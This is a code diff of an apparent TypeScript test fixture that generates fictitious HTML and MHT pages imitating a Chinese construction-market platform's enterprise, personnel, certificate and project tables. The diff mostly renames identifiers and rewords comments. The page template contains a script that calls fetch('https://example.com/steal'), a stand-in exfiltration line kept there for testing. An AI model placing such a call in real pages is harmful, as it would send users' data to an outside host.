@@ -1,4 +1,7 @@
-/** Pages as the national platform's public pages stand, with invented content (示例): headings in a table of their own, columns that stay in sight. */
+/**
+ * Pages with the structure of the national platform's public pages and fictitious content (示例): headings in a separate table, fixed
+ * columns.
+ */
 
 const headTable = (cells: readonly string[]) =>
   `<div class="el-table__header-wrapper"><table class="el-table__header"><thead><tr>${cells
@@ -15,7 +18,7 @@ const page = (...parts: readonly string[]) =>
   `<!DOCTYPE html><html><head><meta charset="utf-8"><title>示例：全国建筑市场监管公共服务平台</title>
   <script>document.title = '示例脚本'; fetch('https://example.com/steal')</script></head><body><h2>示例页面</h2>${parts.join('\n')}</body></html>`;
 
-export const PEOPLE_HEADS = ['序号', '姓名', '身份证号', '注册类别', '注册号（执业印章号）', '注册专业'];
+export const PEOPLE_HEADINGS = ['序号', '姓名', '身份证号', '注册类别', '注册号（执业印章号）', '注册专业'];
 
 export const enterprisePage = (creditCode: string, rest: Partial<Record<'name' | 'legal', string>> = {}) =>
   page(
@@ -26,10 +29,10 @@ export const enterprisePage = (creditCode: string, rest: Partial<Record<'name' |
 
 export const peoplePage = (rows: readonly (readonly string[])[], total: number) =>
   page(
-    headTable(PEOPLE_HEADS),
+    headTable(PEOPLE_HEADINGS),
     bodyTable(rows),
-    // The same columns once more, held in sight.
-    headTable(PEOPLE_HEADS),
+    // The same columns again, as the page repeats them for fixed columns.
+    headTable(PEOPLE_HEADINGS),
     bodyTable(rows),
     `<div class="el-pagination"><span>共 ${total} 条</span></div>`,
   );
@@ -40,7 +43,7 @@ export const certificatesPage = (rows: readonly (readonly string[])[]) =>
     bodyTable(rows),
   );
 
-/** In another order than the platform has. */
+/** The columns have a different order than on the platform. */
 export const projectsPage = (rows: readonly (readonly string[])[], total: number) =>
   page(
     headTable(['项目名称', '建设单位', '项目编号', '项目类别', '项目属地']),
@@ -54,8 +57,8 @@ const quoted = (text: string) =>
     .join('')
     .replace(/(.{72})/g, '$1=\r\n');
 
-/** As a browser saves a page with everything on it. */
-export const asMht = (html: string) =>
+/** Converts a page to the format in which a browser saves a complete page. */
+export const convertToMht = (html: string) =>
   [
     'From: <Saved by Blink>',
     'Snapshot-Content-Location: https://example.com/示例',
